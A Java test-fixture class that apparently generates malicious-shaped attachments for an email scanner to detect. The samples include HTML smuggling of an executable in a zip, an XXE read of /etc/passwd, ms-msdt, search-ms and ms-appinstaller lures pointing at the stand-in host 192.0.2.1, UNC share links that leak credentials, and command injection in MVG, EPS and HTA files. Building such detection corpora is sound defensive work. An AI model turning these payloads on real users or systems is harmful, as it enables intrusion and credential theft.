package org.inboxaudit.extract.attachment;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Map;

/// Pages and pictures that a browser runs, and saved pages that Word does.
final class PageShapes {
  private static final String ZIP =
      Base64.getEncoder().encodeToString(SampleContainers.zip("a.exe", SampleFiles.program()));

  private PageShapes() {}

  static Map<String, byte[]> all() {
    Shapes shapes = new Shapes();
    hand(shapes);
    run(shapes);
    build(shapes);
    lead(shapes);
    pictures(shapes);
    archives(shapes);
    return shapes.all();
  }

  private static void hand(Shapes shapes) {
    StringBuilder pieces = new StringBuilder();
    for (int i = 0; i < ZIP.length(); i += 20) {
      pieces.append('\'').append(ZIP, i, Math.min(ZIP.length(), i + 20)).append("',");
    }
    shapes
        .text(
            "pieces.html",
            "<script>var a=["
                + pieces
                + "].join('');var b=new Blob([atob(a)]);location=URL.createObjectURL(b)</script>")
        .text(
            "numbers.html",
            "<script>var b=new Blob([new Uint8Array([80,75,3,4])]);var l=document.createElement('a');l.href=URL.createObjectURL(b);l.download='a.zip';l.click()</script>")
        .text(
            "fetched from itself.html",
            "<script>fetch('data:application/zip;base64,"
                + ZIP
                + "').then(r=>r.blob()).then(b=>location=URL.createObjectURL(b))</script>")
        .text(
            "led to itself.html",
            "<script>window.location='data:application/zip;base64," + ZIP + "'</script>")
        .text(
            "short link.html",
            "<a download='a.zip' href='data:application/zip;base64,UEsDBA=='>Open</a>")
        .text(
            "refresh.html",
            "<meta http-equiv=refresh content='0;url=data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+'>")
        .text("frame.html", "<iframe src='data:text/html,<script>1</script>'></iframe>")
        .text("within.html", "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></iframe>")
        .text("template.html", "<template><script>1</script></template><script>2</script>")
        .text(
            "hidden field.html",
            "<input type=hidden id=x value='" + ZIP + "'><script>go(x.value)</script>")
        .text("comment.html", "<!--" + ZIP + "--><script>document.body.previousSibling</script>")
        .text(
            "style.html",
            "<style>a{background:url(data:x;base64," + ZIP + ")}</style><script>1</script>")
        .text(
            "old browser.html",
            "<script>navigator.msSaveOrOpenBlob(new Blob([atob('UEsDBA==')]),'a.zip')</script>")
        .text(
            "assembly.html",
            "<script>WebAssembly.instantiate(Uint8Array.from(atob('AGFzbQ=='),c=>c.charCodeAt(0)))</script>")
        .text(
            "service.html",
            "<script>navigator.serviceWorker.register('data:text/javascript,1')</script>");
  }

  private static void run(Shapes shapes) {
    shapes
        .add(
            "big-endian.html",
            "<html><script>1</script></html>".getBytes(StandardCharsets.UTF_16BE))
        .text("seven bits.html", "<meta charset=utf-7>+ADw-script+AD4-1+ADw-/script+AD4-")
        .text("load.html", "<body onload=go()>x")
        .text("error.html", "<img src=x onerror=go()>")
        .text("capital.HTML", "<ScRiPt>1</sCrIpT>")
        .text(
            "written.html",
            "<script>document.write(unescape('%3Cform%3E%3Cinput type=password%3E%3C/form%3E%20%20%20%20%20%20%20%20'))</script>")
        .text("letters.html", "<script>eval(String.fromCharCode(97,108))</script>")
        .text(
            "namespace.html",
            "<html xmlns:t='urn:schemas-microsoft-com:time'><t:set attributeName='innerHTML' to='&lt;script&gt;1&lt;/script&gt;'/></html>")
        .text(
            "old application.html",
            "<object classid='clsid:D27CDB6E-AE6D-11cf-96B8-444553540000'><param name=movie value=x.swf></object>")
        .text("applet.html", "<applet code=X.class archive=x.jar></applet>")
        .text("page without an end", "<!doctype html><title>x</title><script>1</script>")
        .text("behind a comment", "<!-- x -->\n<!-- y --><html><script>1</script>")
        .text("page.jpg", "<html><body><form><input type=password></form>")
        .text("page.pdf", "<html><script>1</script></html>")
        .text(
            "page.txt", "<html><form action=http://192.0.2.1/><input type=password></form></html>")
        .text(
            "application.hta",
            "<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>")
        .text("application.doc", "<html><head><HTA:APPLICATION ID=x></head></html>")
        .text("form.htm", "<form><input name=pass type='PassWord'></form>")
        .text(
            "page.xhtml",
            "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>")
        .text("page.shtml", "<html><!--#exec cmd='x'--><script>1</script></html>")
        .text(
            "behavior.html", "<xml id=x><script>1</script></xml><div style='behavior:url(x.sct)'>");
  }

  private static void build(Shapes shapes) {
    String turned = new StringBuilder(ZIP).reverse().toString();
    shapes
        .text(
            "array.html",
            "<script>var f=new File([new Uint8Array([80,75,3,4])],'a.zip');location.href=URL.createObjectURL(f)</script>")
        .text("scrambled.html", "<script>saveAs(new Blob([x('WLK')]),'a.iso')</script>")
        .text(
            "digits.html",
            "<script>var b=new Blob([y('504b0304')]);l.href=URL.createObjectURL(b);l.download='a.lnk'</script>")
        .text(
            "backwards.html",
            "<script>go(atob('" + turned + "'.split('').reverse().join('')))</script>")
        .text(
            "lines.html",
            "<textarea hidden>"
                + ZIP.replaceAll("(.{76})", "$1\r\n")
                + "</textarea><script>go()</script>")
        .text(
            "entity.xml",
            "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>")
        .text(
            "entity of the web.svg",
            "<!DOCTYPE svg [<!ENTITY y SYSTEM 'http://192.0.2.1/x'>]><svg xmlns='http://www.w3.org/2000/svg'>&y;</svg>")
        .text("declared on a share.xml", "<!DOCTYPE x SYSTEM '\\\\192.0.2.1\\x\\y.dtd'><x/>");
  }

  private static void lead(Shapes shapes) {
    shapes
        .text(
            "search.html",
            "<script>location='search-ms:query=x&crumb=location:\\\\192.0.2.1\\x'</script>")
        .text(
            "search frame.html",
            "<iframe src='search:query=x&crumb=location:\\\\192.0.2.1'></iframe>")
        .text("tool.html", "<script>location.href='ms-msdt:/id PCWDiagnostic /skip force'</script>")
        .text(
            "installer.html", "<a href='ms-appinstaller:?source=http://192.0.2.1/x.msix'>Open</a>")
        .text(
            "word.html",
            "<meta http-equiv=refresh content='0;url=ms-word:ofe|u|http://192.0.2.1/x.docm'>")
        .text("excel.html", "<a href='ms-excel:ofv|u|http://192.0.2.1/x.xlsm'>Open</a>")
        .text("picture on a share.html", "<img src='file://192.0.2.1/x/y.png'>")
        .text("picture on a share, short.html", "<img src='\\\\192.0.2.1\\x\\y.png'>")
        .text("style on a share.html", "<link rel=stylesheet href='file://192.0.2.1/x.css'>hello")
        .text("frame on a share.html", "<iframe src='\\\\192.0.2.1\\x\\y.html'></iframe>")
        .text("other frame.html", "<iframe src='http://192.0.2.1/login'></iframe>")
        .text("base.html", "<base href='file://192.0.2.1/x/'><img src=y.png>")
        .text("moved.html", "<script>window.location.replace('http://192.0.2.1/x')</script>")
        .text("old link.html", "<a href='javascript:go()'>x</a><body onclick=go()>")
        .text("help.html", "<iframe src='mk:@MSITStore:\\\\192.0.2.1\\x.chm::/x.htm'></iframe>")
        .text("web folder.html", "<a href='file://192.0.2.1@80/DavWWWRoot/x.lnk'>Open</a>");
  }

  private static void pictures(Shapes shapes) {
    byte[] svg =
        SampleFiles.ascii("<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>");
    shapes
        .add("picture.svgz", Shapes.gzip(svg))
        .add("picture.svg.gz", Shapes.gzip(svg))
        .add("packed picture.svg", Shapes.gzip(svg))
        .text(
            "foreign.svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='http://192.0.2.1/'/></foreignObject></svg>")
        .text("loaded.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='go()'/>")
        .text(
            "linked.svg",
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='x'><script xlink:href='http://192.0.2.1/x.js'/></svg>")
        .text(
            "click.svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:go()'><text>x</text></a></svg>")
        .text(
            "entity.svg",
            "<!DOCTYPE svg [<!ENTITY x '&#60;script>1&#60;/script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>")
        .text(
            "handler.svg",
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:ev='x'><handler type='application/ecmascript' ev:event='load'>go()</handler></svg>")
        .text(
            "use.svg",
            "<svg xmlns='http://www.w3.org/2000/svg'><use href='data:image/svg+xml;base64,"
                + Base64.getEncoder().encodeToString(svg)
                + "'/></svg>")
        .text(
            "picture without a name",
            "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>")
        .text("picture.png", "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>")
        .text(
            "math.xml",
            "<math xmlns='http://www.w3.org/1998/Math/MathML'><maction actiontype='statusline' xlink:href='javascript:go()'>x</maction><h:script xmlns:h='http://www.w3.org/1999/xhtml'>1</h:script></math>")
        .text("drawing.eps", "%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%calc) (w) file\n")
        .text(
            "commands.mvg",
            "push graphic-context\nviewbox 0 0 1 1\nfill 'url(https://192.0.2.1/x\"|calc\")'\npop graphic-context\n")
        .add(
            "old picture.wmf",
            new Layout()
                .hex("d7cdc69a 0000 0000000040004000 6000 00000000 aa55")
                .hex("0100 0900 0003 20000000 0000 20000000 0000")
                .hex("05000000 2606 0900 0400")
                .zeros(40)
                .done());
  }

  private static void archives(Shapes shapes) {
    String mime = "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n";
    String page =
        "Content-Type: text/html\nContent-Location: file:///C:/x.htm\n\n<html><script>1</script></html>\n";
    String project =
        "Content-Type: application/x-mso\nContent-Location: file:///C:/editdata.mso\nContent-Transfer-Encoding: base64\n\n"
            + Base64.getMimeEncoder()
                .encodeToString(SampleFiles.ascii("ActiveMime" + "\0".repeat(60)))
            + "\n";
    shapes
        .text("saved page.mht", mime + page + "--b--\n")
        .text("saved page.doc", mime + page + "--b\n" + project + "--b--\n")
        .text(
            "saved project.doc",
            mime + "Content-Type: text/html\n\n<html>x</html>\n--b\n" + project + "--b--\n")
        .text(
            "saved sheet.xls",
            "\n\n"
                + mime
                + "Content-Type: text/html\n\n<html>x</html>\n--b\n"
                + project
                + "--b--\n")
        .text(
            "type first.doc",
            "Content-Type: multipart/related; boundary=b\nMIME-Version: 1.0\n\n--b\n"
                + project
                + "--b--\n")
        .text("junk first.doc", "junk\n" + mime + project + "--b--\n")
        .text(
            "old letter.emlx",
            "900\nFrom: a@example.org\nTo: b@example.org\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nX-A: 1\nContent-Type: a/b; name=a.js\n\nWScript.Quit();\n--b--\n")
        .text(
            "letter.txt",
            "From: a@example.org\nTo: b@example.org\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: a/b; name=a.js\n\nWScript.Quit();\n--b--\n")
        .text("two headers.eml", "Subject: x\nContent-Type: a/b; name=a.js\n\nWScript.Quit();\n")
        .text(
            "no name",
            "Received: x\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: a/b; name=a.js\n\nWScript.Quit();\n--b--\n");
  }
}
